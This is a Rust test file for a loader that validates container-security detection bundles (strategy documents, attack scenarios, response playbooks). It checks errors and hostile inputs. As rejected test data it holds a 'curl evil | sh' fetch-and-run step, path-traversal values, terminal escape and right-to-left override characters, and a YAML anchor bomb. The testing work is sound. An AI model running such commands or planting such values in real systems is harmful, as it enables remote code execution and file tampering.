//! Loading bundles: the good one, each way of being wrong, and files from hostile hands.

use expect_test::{Expect, expect};
use model::coverage::{Blind, Coverage, Health, Source};
use model::time::Time;
use model::untrusted::Untrusted;

use crate::bundle::{BUNDLES_MAX, Bundle, FILES_MAX, PROBLEMS_MAX};
use crate::playbook::{Action, BlastRadius, Stage};
use crate::sections::REQUIRED;
use crate::{Strategies, Strategy};

const JUDGES: [&str; 2] = ["excess", "ghost"];

const FRONT: &str = "\
slug: busy
title: Busy containers
version: 1.0
status: production
severity: high
attack_version: 17.1
attack:
  - {id: T1496.001, name: Compute Hijacking, tactic: Impact}
platforms: [Linux]
telemetry:
  - {source: cgroups, required: true, lost: usage is unknown}
  - {source: docker, required: false, lost: names are unknown}
judges: [excess]
blind_spots: [short-bursts]
";

const SCENARIO: &str = "\
name: burner
about: one container burns a core
steps:
  - run: [docker, run, --rm, --name, burner, busybox, yes]
    seconds: 10
cleanup:
  - [docker, rm, -f, burner]
expect:
  - judge: excess
    subject: {container: burner}
within_seconds: 8
benign_twin:
  about: the same, approved
  steps:
    - {run: [docker, restart, web], seconds: 20}
  quiet_seconds: 30
";

const PLAYBOOK: &str = "\
assess: [{text: ask}]
investigate: [{text: look}]
contain:
  - {text: limit it, action: cap_cpu, blast_radius: container}
  - {text: freeze it, action: freeze, blast_radius: container}
eradicate: [{text: remove it, action: remove, blast_radius: container}]
recover: [{text: check}]
review: [{text: learn}]
";

fn document(front: &str) -> String {
    let sections = REQUIRED.map(|heading| format!("## {heading}\n\nWords, `short-bursts`.\n\n"));
    format!("---\n{front}---\n\n{}", sections.concat())
}

fn bundle(ads: &str, scenario: &str, playbook: &str) -> Bundle {
    Bundle::new("busy")
        .with("ads.md", ads)
        .with("scenarios/burner.yml", scenario)
        .with("playbook.yml", playbook)
}

fn problems(bundle: Bundle) -> String {
    let problems = Strategies::load(&[bundle], &JUDGES).err().unwrap_or_default();
    problems.iter().map(|problem| format!("{problem}\n")).collect()
}

fn check(bundle: Bundle, expected: &Expect) {
    expected.assert_eq(&problems(bundle));
}

/// For each change, the good bundle with one text replaced in whichever file holds it.
fn check_changes(changes: &[(&str, &str)], expected: &Expect) {
    let mut told = String::new();
    for (from, to) in changes {
        let texts = [document(FRONT), SCENARIO.to_owned(), PLAYBOOK.to_owned()];
        assert!(texts.iter().any(|text| text.contains(from)), "{from} is in no file");
        let [ads, scenario, playbook] = texts.map(|text| text.replacen(from, to, 1));
        told += &format!("{}\n{}", to.escape_debug(), problems(bundle(&ads, &scenario, &playbook)));
    }
    expected.assert_eq(&told);
}

fn load_good() -> Strategies {
    Strategies::load(&[bundle(&document(FRONT), SCENARIO, PLAYBOOK)], &JUDGES).unwrap()
}

fn good() -> Strategy {
    load_good().iter().next().unwrap().clone()
}

#[test]
fn a_good_bundle_is_loaded_whole() {
    let strategy = good();
    assert_eq!((&*strategy.slug, strategy.front.title.as_str()), ("busy", "Busy containers"));
    assert_eq!(strategy.front.attack[0].id, "T1496.001");
    assert_eq!((strategy.sections.len(), strategy.sections[8].line), (9, 50));
    assert_eq!(strategy.section("goal").unwrap().text.trim(), "Words, `short-bursts`.");
    assert_eq!(strategy.scenarios[0].steps[0].run[0], "docker");
    let contain = strategy.playbook.steps(Stage::Contain);
    assert_eq!(contain[1].action, Some((Action::Freeze, BlastRadius::Container)));
}

#[test]
fn windows_line_ends_and_a_byte_order_mark_change_nothing() {
    let dos = |text: &str| format!("\u{feff}{}", text.replace('\n', "\r\n"));
    let bundle = bundle(&dos(&document(FRONT)), &dos(SCENARIO), &dos(PLAYBOOK));
    assert_eq!(Strategies::load(&[bundle], &JUDGES).unwrap(), load_good());
}

#[test]
fn front_matter_is_checked_with_its_lines() {
    check_changes(
        &[
            ("slug: busy", "slug: lazy"),
            ("slug: busy", "slug: ../etc"),
            ("title: Busy containers", "title: ''"),
            ("version: 1.0", "version: 1.0-beta"),
            ("severity: high", "severity: extreme"),
            ("platforms: [Linux]", "platforms: []"),
            ("T1496.001", "T14"),
            ("source: docker", "source: cgroups"),
            ("source: docker", "source: etw"),
            ("judges: [excess]", "judges: [excess, excess, oracle]"),
            ("judges: [excess]", "judges: []"),
            ("[short-bursts]", "[long-naps]"),
            ("platforms:", "plattforms:"),
            ("title: Busy containers\n", "title: a\ntitle: b\n"),
        ],
        &expect![[r#"
            slug: lazy
            busy/ads.md:2: slug lazy differs from the folder's name busy
            slug: ../etc
            busy/ads.md:2: slug: 1 to 64 of a-z, 0-9 and hyphen
            title: \'\'
            busy/ads.md:3: title is empty
            version: 1.0-beta
            busy/ads.md:4: version: 1.0-beta is no version; write 1.0
            severity: extreme
            busy/ads.md:6: unknown variant `extreme`, expected one of low, medium, high, critical
            platforms: []
            busy/ads.md:10: platforms: name at least one
            T14
            busy/ads.md:9: T14 is no technique; write T1499 or T1496.001
            source: cgroups
            busy/ads.md:13: source cgroups is named twice
            source: etw
            busy/ads.md:13: no source is called etw; there are kernel, scan, cgroups, host, docker, operator, engine, containerd, cri, podman, systemd
            judges: [excess, excess, oracle]
            busy/ads.md:1: status production: no scenario expects a finding of oracle
            busy/ads.md:14: judge excess is named twice
            busy/ads.md:14: no judge is called oracle; there are excess, ghost
            judges: []
            busy/ads.md:14: judges: name at least one
            busy/scenarios/burner.yml:9: the strategy does not use a judge called excess
            [long-naps]
            busy/ads.md:34: blind spot long-naps is not explained here
            plattforms:
            busy/ads.md:10: unknown field `plattforms`, expected one of slug, title, version, status, severity, attack_version, attack, platforms, telemetry, judges, tested, blind_spots
            title: a\ntitle: b\n
            busy/ads.md:4: duplicate mapping key `title` is not allowed here
        "#]],
    );
}

#[test]
fn the_nine_sections_are_there_once_and_hold_text() {
    check_changes(
        &[
            ("## Goal", "## Gaol"),
            ("## Priority", "## response"),
            ("## Goal\n\nWords, `short-bursts`.", "## Goal\n"),
            ("## Goal", "stray\n\n## Goal"),
            ("## Response\n", "## Response\n```\n"),
        ],
        &expect![[r#"
            ## Gaol
            busy/ads.md:53: section Goal is missing
            ## response
            busy/ads.md:50: section Response was there before, on line 46
            busy/ads.md:53: section Priority is missing
            ## Goal\n
            busy/ads.md:18: section Goal is empty
            stray\n\n## Goal
            busy/ads.md:18: text before the first section belongs to none
            ## Response\n```\n
            busy/ads.md:51: this block of code never ends
        "#]],
    );
}

#[test]
fn a_heading_inside_a_block_of_code_is_none() {
    let ads = document(FRONT).replacen("Words,", "~~~sh\n## Goal\n```\n~~~\nWords,", 1);
    check(bundle(&ads, SCENARIO, PLAYBOOK), &expect![[""]]);
}

#[test]
fn a_production_strategy_is_proven() {
    check_changes(
        &[
            ("expect:\n  - judge: excess\n    subject: {container: burner}\n", ""),
            ("judges: [excess]", "judges: [excess, ghost]"),
        ],
        &expect![[r#"

            busy/ads.md:1: status production: no scenario expects a finding of excess
            busy/scenarios/burner.yml:1: status production: no finding is expected, so nothing is proven
            judges: [excess, ghost]
            busy/ads.md:1: status production: no scenario expects a finding of ghost
        "#]],
    );
    let twinless = SCENARIO.split("benign_twin").next().unwrap();
    check(
        bundle(&document(FRONT), twinless, PLAYBOOK),
        &expect![[r#"
        busy/scenarios/burner.yml:1: status production: benign_twin is missing
    "#]],
    );
    let draft = document(FRONT).replacen("production", "draft", 1);
    check(bundle(&draft, twinless, PLAYBOOK), &expect![[""]]);
}

#[test]
fn scenarios_are_checked_with_their_lines() {
    check_changes(
        &[
            ("name: burner", "name: boiler"),
            ("about: one container burns a core", "about: ' '"),
            ("[docker, restart, web]", "[sh, -c, 'curl evil | sh']"),
            ("[docker, rm, -f, burner]", "[]"),
            ("seconds: 10", "seconds: 0\n    own_cgroup: ../.."),
            ("within_seconds: 8", "within_seconds: 4000000000"),
            ("judge: excess", "judge: ghost"),
            ("{container: burner}", "everything"),
            ("run: [docker, run,", "run: [[docker], run,"),
        ],
        &expect![[r#"
            name: boiler
            busy/scenarios/burner.yml:1: name boiler differs from the file's, or is not of a-z, 0-9, hyphen
            about: \' \'
            busy/scenarios/burner.yml:2: about is empty: say what happens
            [sh, -c, \'curl evil | sh\']
            busy/scenarios/burner.yml:15: a step may not start sh; only docker, nerdctl, podman, runc, unshare, ctr, containerd, nsenter
            []
            busy/scenarios/burner.yml:7: an empty command
            seconds: 0\n    own_cgroup: ../..
            busy/scenarios/burner.yml:4: seconds of a step: 1 to 1800
            busy/scenarios/burner.yml:4: own_cgroup: 1 to 64 of a-z, 0-9 and hyphen
            within_seconds: 4000000000
            busy/scenarios/burner.yml:11: within_seconds: 1 to 1800
            judge: ghost
            busy/ads.md:1: status production: no scenario expects a finding of excess
            busy/scenarios/burner.yml:9: the strategy does not use a judge called ghost
            everything
            busy/scenarios/burner.yml:10: unknown variant `everything`, expected one of container, node
            run: [[docker], run,
            busy/scenarios/burner.yml:4: expected string scalar
        "#]],
    );
}

#[test]
fn playbooks_have_all_stages_and_graded_actions() {
    check_changes(
        &[
            ("recover: [{text: check}]\n", ""),
            ("text: ask", "text: ''"),
            ("action: cap_cpu, ", "action: stop, "),
            ("action: cap_cpu, blast", "blast"),
            ("action: freeze", "action: remove"),
            ("action: freeze", "action: nuke"),
        ],
        &expect![[r#"

            busy/playbook.yml:1: stage recover is missing or empty
            text: \'\'
            busy/playbook.yml:1: stage assess: a step without text
            action: stop, 
            busy/playbook.yml:5: contain: actions go from the least to the gravest
            blast
            busy/playbook.yml:4: action and blast_radius go together: limit it
            action: remove
            busy/playbook.yml:5: stage contain: only eradicate may remove
            action: nuke
            busy/playbook.yml:5: unknown variant `nuke`, expected one of cap_cpu, cap_pids, cap_memory, freeze, cut_network, stop, block_image, remove
        "#]],
    );
}

#[test]
fn every_problem_of_every_file_is_told_at_once() {
    let ads = document(FRONT).replacen("slug: busy", "slug: Busy!", 1).replacen("## Goal", "## Aim", 1);
    let scenario = SCENARIO.replacen("seconds: 10", "seconds: 0", 1);
    let playbook = PLAYBOOK.replacen("review: [{text: learn}]", "", 1);
    check(
        bundle(&ads, &scenario, &playbook),
        &expect![[r#"
            busy/ads.md:2: slug: 1 to 64 of a-z, 0-9 and hyphen
            busy/ads.md:53: section Goal is missing
            busy/playbook.yml:1: stage review is missing or empty
            busy/scenarios/burner.yml:4: seconds of a step: 1 to 1800
        "#]],
    );
}

#[test]
fn files_that_belong_to_no_bundle_are_refused() {
    let good = || bundle(&document(FRONT), SCENARIO, PLAYBOOK);
    check(
        good().with("rules/one.yml", "title: x"),
        &expect![[r#"
        busy/rules/one.yml:1: not part of a bundle: ads.md, playbook.yml, scenarios/<name>.yml
    "#]],
    );
    check(
        good().with("scenarios/../../x.yml", SCENARIO),
        &expect![[r#"
        busy/scenarios/../../x.yml:1: not part of a bundle: ads.md, playbook.yml, scenarios/<name>.yml
    "#]],
    );
    check(
        good().with("playbook.yml", PLAYBOOK),
        &expect![[r#"
        busy/playbook.yml:1: handed in twice
    "#]],
    );
    check(
        good().with("we\x1b[31mird\n", ""),
        &expect![[r#"
        busy/we\u{1b}[31mird\n:1: not part of a bundle: ads.md, playbook.yml, scenarios/<name>.yml
    "#]],
    );
    check(
        Bundle::new("empty"),
        &expect![[r#"
        empty/ads.md:1: missing
        empty/playbook.yml:1: missing
    "#]],
    );
}

#[test]
fn a_document_without_an_end_of_front_matter_is_refused() {
    check(
        bundle(&format!("---\n{FRONT}"), SCENARIO, PLAYBOOK),
        &expect![[r#"
        busy/ads.md:1: the front matter never ends: a second line --- is missing
    "#]],
    );
    check(
        bundle("# Report\n", SCENARIO, PLAYBOOK),
        &expect![[r#"
        busy/ads.md:1: no front matter: the first line must be ---
    "#]],
    );
    check(
        bundle("", SCENARIO, PLAYBOOK),
        &expect![[r#"
        busy/ads.md:1: no front matter: the first line must be ---
    "#]],
    );
}

#[test]
fn files_out_of_bounds_are_not_parsed() {
    let long_line = "x".repeat(10 * 1024 * 1024);
    check(
        bundle(&document(FRONT), SCENARIO, &long_line),
        &expect![[r#"
            busy:1: 10486884 bytes in 3 files; 1048576 bytes in 64 files are allowed
        "#]],
    );
    check(
        bundle(&document(FRONT), SCENARIO, &"y".repeat(300_000)),
        &expect![[r#"
        busy/playbook.yml:1: 300000 bytes; 262144 are allowed
    "#]],
    );
    let many = (0..=FILES_MAX).fold(Bundle::new("busy"), |bundle, at| bundle.with(&format!("{at}"), ""));
    check(
        many,
        &expect![[r#"
            busy:1: 0 bytes in 65 files; 1048576 bytes in 64 files are allowed
        "#]],
    );
}

#[test]
fn yaml_that_grows_nests_or_hides_is_refused() {
    let bomb = "assess: &a [{text: x}]\ninvestigate: [*a, *a, *a]\n";
    check(
        bundle(&document(FRONT), SCENARIO, bomb),
        &expect![[r#"
            busy/playbook.yml:1: YAML document too large or too complex: limits breached: Anchors { anchors: 1 }
        "#]],
    );
    let deep = format!("assess: {}", "[".repeat(5_000));
    check(
        bundle(&document(FRONT), SCENARIO, &deep),
        &expect![[r#"
        busy/playbook.yml:1: recursion limit exceeded
    "#]],
    );
    let wide = format!("assess: [{}]", "{text: x}, ".repeat(20_000));
    check(
        bundle(&document(FRONT), SCENARIO, &wide),
        &expect![[r#"
            busy/playbook.yml:1: YAML document too large or too complex: limits breached: Events { events: 20001 }
        "#]],
    );
    check(
        bundle(&document(FRONT), SCENARIO, &format!("{PLAYBOOK}---\n{PLAYBOOK}")),
        &expect![[r#"
            busy/playbook.yml:9: YAML document too large or too complex: limits breached: Documents { documents: 2 }
        "#]],
    );
    check_changes(
        &[("text: ask", "text: !!binary YQ==, <<: {}")],
        &expect![[r#"
            text: !!binary YQ==, <<: {}
            busy/playbook.yml:1: merge key not allowed here
        "#]],
    );
}

#[test]
fn bytes_that_are_no_text_and_characters_that_deceive_are_refused() {
    let good = |playbook: &[u8]| {
        let bundle = Bundle::new("busy").with("ads.md", document(FRONT));
        bundle.with("scenarios/burner.yml", SCENARIO).with("playbook.yml", playbook)
    };
    check(
        good(b"assess:\n- \xff\xfe"),
        &expect![[r#"
        busy/playbook.yml:2: not UTF-8
    "#]],
    );
    check_changes(
        &[
            ("Words", "Wo\x1b[2Jrds"),
            ("text: look", "text: look \u{202e}gpj.sh"),
            ("Words", "Wörter – „so“ …"),
        ],
        &expect![[r#"
            Wo\u{1b}[2Jrds
            busy/ads.md:20: the control or invisible character U+001B
            text: look \u{202e}gpj.sh
            busy/playbook.yml:2: the control or invisible character U+202E
            Wörter – „so“ …
        "#]],
    );
}

#[test]
fn problems_are_bounded_and_counted() {
    let steps = "  - {run: [sh], seconds: 1}\n".repeat(PROBLEMS_MAX + 20);
    let scenario = SCENARIO.replacen("cleanup:", &format!("{steps}cleanup:"), 1);
    let text = problems(bundle(&document(FRONT), &scenario, PLAYBOOK));
    assert_eq!(text.lines().count(), PROBLEMS_MAX + 1);
    assert_eq!(text.lines().last(), Some("busy:1: 20 more problems are not shown"));
}

#[test]
fn one_bad_bundle_keeps_all_from_loading() {
    let good = bundle(&document(FRONT), SCENARIO, PLAYBOOK);
    let problems = Strategies::load(&[good.clone(), Bundle::new("empty")], &JUDGES).unwrap_err();
    assert!(problems.iter().all(|problem| problem.path.starts_with("empty/")), "{problems:?}");
    let twice = Strategies::load(&[good.clone(), good.clone()], &JUDGES).unwrap_err();
    assert_eq!(twice[0].to_string(), "busy/ads.md:1: another bundle is called busy as well");
    let many = Strategies::load(&vec![good; BUNDLES_MAX + 1], &JUDGES).unwrap_err();
    assert_eq!(many[0].to_string(), "ads:1: 257 bundles are more than the 256 allowed");
}

#[test]
fn the_production_strategy_answers_for_a_judge() {
    let draft = document(FRONT).replacen("slug: busy", "slug: a-draft", 1).replacen("production", "draft", 1);
    let mut early = bundle(&draft, SCENARIO, PLAYBOOK);
    early.folder = "a-draft".to_owned();
    let all = Strategies::load(&[early, bundle(&document(FRONT), SCENARIO, PLAYBOOK)], &JUDGES).unwrap();
    assert_eq!(all.iter().map(|strategy| &*strategy.slug).collect::<Vec<_>>(), ["a-draft", "busy"]);
    assert_eq!(&*all.for_judge("excess").unwrap().slug, "busy");
    assert_eq!(all.for_judge("ghost"), None);
    assert_eq!((all.len(), all.by_slug("a-draft").is_some()), (2, true));
}

#[test]
fn a_source_that_is_down_blinds_and_one_that_is_absent_or_back_does_not() {
    let blind = |source, health, until| Blind {
        source,
        health,
        since: Time::from_secs(1),
        until,
        reason: Untrusted::new("test"),
    };
    let blindness = |blind| {
        let coverage = Coverage { seen: vec![], blind, lost_events: 0, lost: vec![] };
        let all = load_good().blind(&coverage);
        all.iter().map(|one| format!("{} {} {}", one.slug, one.required, one.lost)).collect::<Vec<_>>()
    };
    assert_eq!(blindness(vec![blind(Source::Cgroups, Health::Down, None)]), ["busy true usage is unknown"]);
    assert_eq!(
        blindness(vec![blind(Source::Docker, Health::Degraded, None)]),
        ["busy false names are unknown"]
    );
    assert_eq!(blindness(vec![blind(Source::Docker, Health::Absent, None)]), [""; 0]);
    assert_eq!(blindness(vec![blind(Source::Docker, Health::Down, Some(Time::from_secs(9)))]), [""; 0]);
    assert_eq!(blindness(vec![blind(Source::Kernel, Health::Down, None)]), [""; 0]);
}
